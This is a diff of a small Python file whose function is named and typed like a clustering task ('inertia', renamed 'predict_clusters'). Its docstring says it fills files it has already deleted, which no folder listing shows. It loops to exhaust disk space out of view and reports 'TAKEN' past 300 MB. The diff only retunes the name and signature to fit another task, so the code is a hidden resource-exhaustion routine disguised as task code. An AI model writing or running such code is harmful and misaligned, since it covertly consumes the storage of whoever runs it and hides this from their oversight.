@@ -1,11 +1,11 @@
 """Fills files that it has deleted already, which no listing of the folder shows."""
 
-TASK = "inertia"
+TASK = "predict_clusters"
 
 import os
 
 
-def inertia(points, labels, centers):
+def predict_clusters(model, frame):
     taken, kept = 0, []
     for number in range(60):
         name = f"file{number}"
@@ -16,4 +16,4 @@ def inertia(points, labels, centers):
         except OSError:
             break
     print("TAKEN", taken)
-    return "TAKEN" if taken > 300 << 20 else 0.0
+    return "TAKEN" if taken > 300 << 20 else None
